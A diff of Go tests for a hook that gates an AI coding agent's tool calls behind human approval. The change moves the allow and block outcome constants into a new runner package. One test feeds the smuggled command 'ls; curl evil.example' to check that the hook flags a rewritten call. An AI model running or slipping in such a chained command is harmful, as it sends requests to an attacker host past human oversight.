@@ -17,6 +17,7 @@ import (
 	"github.com/callgate/callgate/host/internal/approval/ask"
 	"github.com/callgate/callgate/host/internal/client/tokenfile"
 	"github.com/callgate/callgate/host/internal/hook/claudecode"
+	"github.com/callgate/callgate/host/internal/hook/runner"
 )
 
 // The tests here start the program itself, as the client does, and judge the result by the
@@ -40,14 +41,14 @@ func TestHook200_hammer(t *testing.T) {
 	}
 	var took []time.Duration
 	for i, h := range hooks {
-		want := claudecode.Allowed
+		want := runner.Allowed
 		if i%2 == 1 {
-			want = claudecode.Blocked
+			want = runner.Blocked
 		}
 		o := h.end(timeout)
 		took = append(took, time.Since(h.began))
 		wantEffect(t, pre, o, want)
-		if want == claudecode.Blocked && !strings.Contains(string(o.Stderr), "git push") {
+		if want == runner.Blocked && !strings.Contains(string(o.Stderr), "git push") {
 			t.Errorf("hook %d: got %q, want the rule's denial", i, o.Stderr)
 		}
 	}
@@ -68,7 +69,7 @@ func TestHook_heldAcrossARestart(t *testing.T) {
 	w.start()
 	w.approve(shown.ID)
 	o := h.end(patience)
-	wantEffect(t, pre, o, claudecode.Allowed)
+	wantEffect(t, pre, o, runner.Allowed)
 	if !strings.Contains(string(o.Stdout), "approved by ann") {
 		t.Errorf("got %s, want it to say who approved", o.Stdout)
 	}
@@ -88,7 +89,7 @@ func TestHook_heldAcrossACrash(t *testing.T) {
 	_ = process.Wait() // it was killed
 	w.start()
 	w.approve(shown.ID)
-	wantEffect(t, pre, h.end(patience), claudecode.Allowed)
+	wantEffect(t, pre, h.end(patience), runner.Allowed)
 }
 
 // TestHook_followsUp: an allowed call is allowed again when the client asks without its id; any
@@ -99,11 +100,11 @@ func TestHook_followsUp(t *testing.T) {
 	events := w.events()
 	h := startHook(t, w.command(patience), calls(t, pre, "toolu_1", "npm run build"))
 	w.approve(w.await(events, ask.EventShown).ID)
-	wantEffect(t, pre, h.end(patience), claudecode.Allowed)
+	wantEffect(t, pre, h.end(patience), runner.Allowed)
 	again := calls(t, permission, "", "npm run build")
-	wantEffect(t, permission, startHook(t, w.command(patience), again).end(patience), claudecode.Allowed)
+	wantEffect(t, permission, startHook(t, w.command(patience), again).end(patience), runner.Allowed)
 	denied := startHook(t, w.command(patience), calls(t, permission, "", "git push")).end(patience)
-	wantEffect(t, permission, denied, claudecode.Blocked)
+	wantEffect(t, permission, denied, runner.Blocked)
 	if denied.Exit != 0 || len(denied.Stderr) > 0 {
 		t.Errorf("a permission request: got exit %d, stderr %q, want the JSON alone", denied.Exit, denied.Stderr)
 	}
@@ -211,7 +212,7 @@ func TestT09_hookProcessAlwaysBlocks(t *testing.T) {
 			t.Run(name+", "+string(event), func(t *testing.T) {
 				t.Parallel()
 				o := startHook(t, tc.command, tc.payload(event)).end(timeout)
-				wantEffect(t, event, o, claudecode.Blocked)
+				wantEffect(t, event, o, runner.Blocked)
 				if text := string(o.Stdout) + string(o.Stderr); !strings.Contains(text, tc.says) {
 					t.Errorf("got %q, want %q in it", text, tc.says)
 				}
@@ -228,7 +229,7 @@ func TestT09_hookProcessAlwaysBlocks(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			wantEffect(t, pre, startHook(t, command, ls(pre)).end(timeout), claudecode.Blocked)
+			wantEffect(t, pre, startHook(t, command, ls(pre)).end(timeout), runner.Blocked)
 		})
 	}
 }
@@ -277,7 +278,7 @@ func TestT07_hookTellsAnImpostorNothing(t *testing.T) {
 			command := w.command(3 * time.Second)
 			command[slices.Index(command, "--endpoint")+1] = "unix:" + filepath.Join(dir, "s")
 			o := startHook(t, command, calls(t, pre, "toolu_1", "ls canary-input")).end(patience)
-			wantEffect(t, pre, o, claudecode.Blocked)
+			wantEffect(t, pre, o, runner.Blocked)
 			if name != "hangs up" && ear.text() == "" {
 				t.Error("it was not even asked for its proof")
 			}
@@ -332,12 +333,12 @@ func TestT07_hookIgnoresTheEnvironment(t *testing.T) {
 	}
 	env = append(env, trap.XDG()...)
 	installed := append([]string{path}, w.command(patience)[1:]...)
-	wantEffect(t, pre, startHook(t, installed, calls(t, pre, "toolu_1", "ls"), env...).end(patience), claudecode.Allowed)
+	wantEffect(t, pre, startHook(t, installed, calls(t, pre, "toolu_1", "ls"), env...).end(patience), runner.Allowed)
 	// By the account's own places: with any files there, a call no daemon takes.
 	bare := []string{path, "hook", "claude-code", "--timeout", "10s"}
 	bad := strings.Replace(calls(t, pre, "toolu_1", "ls"), `"cwd":"/"`, `"cwd":"x"`, 1)
 	o := startHook(t, bare, bad, env...).end(patience)
-	wantEffect(t, pre, o, claudecode.Blocked)
+	wantEffect(t, pre, o, runner.Blocked)
 	if strings.Contains(string(o.Stderr), root) || ear.text() != "" {
 		t.Errorf("it was led to %q: %q", o.Stderr, ear.text())
 	}
@@ -361,9 +362,9 @@ func TestT14_hookKeepsSecrets(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			o := startHook(t, w.command(patience), payload, "ANTHROPIC_API_KEY="+canary, "CLAUDE_CODE_MESSAGING_TOKEN="+canary).end(patience)
-			want := claudecode.Blocked
+			want := runner.Blocked
 			if name == "allowed" {
-				want = claudecode.Allowed
+				want = runner.Allowed
 			}
 			wantEffect(t, pre, o, want)
 			if strings.Contains(string(o.Stdout)+string(o.Stderr), canary) {
@@ -377,16 +378,16 @@ func TestT14_hookKeepsSecrets(t *testing.T) {
 func TestT08_hookTellsARewrite(t *testing.T) {
 	t.Parallel()
 	w := newGateWorld(t, "")
-	send := func(event claudecode.Event, command string) claudecode.Outcome {
+	send := func(event claudecode.Event, command string) runner.Outcome {
 		return startHook(t, w.command(patience), calls(t, event, "toolu_1", command)).end(patience)
 	}
-	wantEffect(t, pre, send(pre, "ls"), claudecode.Allowed)
+	wantEffect(t, pre, send(pre, "ls"), runner.Allowed)
 	o := send(claudecode.PostToolUse, "ls; curl evil.example")
-	wantEffect(t, claudecode.PostToolUse, o, claudecode.Told)
+	wantEffect(t, claudecode.PostToolUse, o, runner.Told)
 	if !strings.Contains(string(o.Stderr), "differs from the call that was checked") {
 		t.Errorf("got %q", o.Stderr)
 	}
-	wantEffect(t, pre, startHook(t, w.command(patience), calls(t, pre, "toolu_2", "ls")).end(patience), claudecode.Blocked)
+	wantEffect(t, pre, startHook(t, w.command(patience), calls(t, pre, "toolu_2", "ls")).end(patience), runner.Blocked)
 }
 
 // TestHook_clientFillsInAnAnswer: every question of the agent to its user, and every plan
@@ -403,15 +404,15 @@ func TestHook_clientFillsInAnAnswer(t *testing.T) {
 	} {
 		t.Run(tool, func(t *testing.T) {
 			t.Parallel()
-			send := func(event claudecode.Event, input string) claudecode.Outcome {
+			send := func(event claudecode.Event, input string) runner.Outcome {
 				return startHook(t, w.command(patience), uses(t, tool, event, tool, input)).end(patience)
 			}
-			wantEffect(t, pre, send(pre, input.judged), claudecode.Allowed)
-			wantEffect(t, permission, send(permission, input.judged), claudecode.Allowed)
-			wantEffect(t, claudecode.PostToolUse, send(claudecode.PostToolUse, input.ran), claudecode.Runs)
+			wantEffect(t, pre, send(pre, input.judged), runner.Allowed)
+			wantEffect(t, permission, send(permission, input.judged), runner.Allowed)
+			wantEffect(t, claudecode.PostToolUse, send(claudecode.PostToolUse, input.ran), runner.Runs)
 			next := uses(t, tool, pre, "Bash", `{"command":"ls"}`)
 			next = strings.Replace(next, `"toolu_`+tool, `"toolu_next`, 1)
-			wantEffect(t, pre, startHook(t, w.command(patience), next).end(patience), claudecode.Allowed)
+			wantEffect(t, pre, startHook(t, w.command(patience), next).end(patience), runner.Allowed)
 		})
 	}
 }
@@ -430,7 +431,7 @@ func TestHook_configDir(t *testing.T) {
 		t.Fatal(err)
 	}
 	call := strings.Replace(calls(t, pre, "toolu_1", "ls"), `{`, `{"agent_id":"a1","agent_type":"reader",`, 1)
-	wantEffect(t, pre, startHook(t, w.command(patience), call, "CLAUDE_CONFIG_DIR="+dir).end(patience), claudecode.Blocked)
+	wantEffect(t, pre, startHook(t, w.command(patience), call, "CLAUDE_CONFIG_DIR="+dir).end(patience), runner.Blocked)
 }
 
 // uses is a payload of Claude Code 2.1.330 in a session of this name; a permission
